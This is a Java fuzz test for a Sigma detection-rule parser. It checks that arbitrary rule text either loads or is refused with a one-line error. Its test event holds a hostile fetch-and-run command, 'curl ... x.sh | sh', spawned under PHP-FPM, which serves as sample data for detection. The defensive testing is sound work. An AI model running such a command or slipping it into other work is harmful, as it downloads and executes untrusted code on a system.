package io.spawnwatch.rules.sigma;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import com.code_intelligence.jazzer.junit.DictionaryEntries;
import com.code_intelligence.jazzer.junit.FuzzTest;
import io.spawnwatch.rules.model.DetectionConfig;
import io.spawnwatch.rules.model.RuleError;
import io.spawnwatch.rules.TestEvent;

/**
 * Any text given as a rule file: every document is loaded or refused with a
 * one-line error and a line number, never an exception, and a loaded rule
 * evaluates without throwing. {@code make test} fuzzes it briefly, {@code make
 * fuzz} for longer (java/pom.xml, execution "fuzz").
 */
class SigmaParserFuzzTest {
    private static final SigmaRuleParser PARSER = new SigmaRuleParser(DetectionConfig.defaults());
    private static final TestEvent EXEC = TestEvent.phpFpmGrandchild("/usr/bin/curl", "curl",
            "curl -s http://203.0.113.9/x.sh | sh");
    private static final TestEvent CONNECT = TestEvent.connect();

    @FuzzTest(maxDuration = "20s")
    @DictionaryEntries({"title: ", "id: 6d1c2b1e-0000-4000-8000-000000000001", "logsource:", "product: linux",
        "category: process_creation", "category: network_connection", "detection:", "condition: ", "sel:",
        "CommandLine|re: ", "CommandLine|contains|all: ", "|base64offset", "|cidr", "|windash", "|endswith",
        "Image", "ParentImage", "DestinationIp", "DestinationPort|gt: ", "1 of sel*", "all of them", "not ",
        " and ", " or ", "(", ")", "spawnwatch:", "rarity:", "new_terms:", "---", "%internal_ranges%", "&a", "*a"})
    void shouldLoadOrRefuseEveryDocumentWithOneLine(FuzzedDataProvider data) {
        String text = data.consumeRemainingAsString();
        for (SigmaRuleParser.Result r : PARSER.parse("fuzz.yml", text)) {
            switch (r) {
                case SigmaRuleParser.Refused refused -> {
                    RuleError e = refused.error();
                    assertTrue(e.line() >= 0, e.toString());
                    assertFalse(e.message().isBlank(), e.toString());
                    assertFalse(e.message().contains("\n"), "a multi-line error: " + e);
                }
                case SigmaRuleParser.Loaded loaded -> {
                    loaded.rule().detection().matches(EXEC);
                    loaded.rule().detection().matches(CONNECT);
                }
            }
        }
    }
}
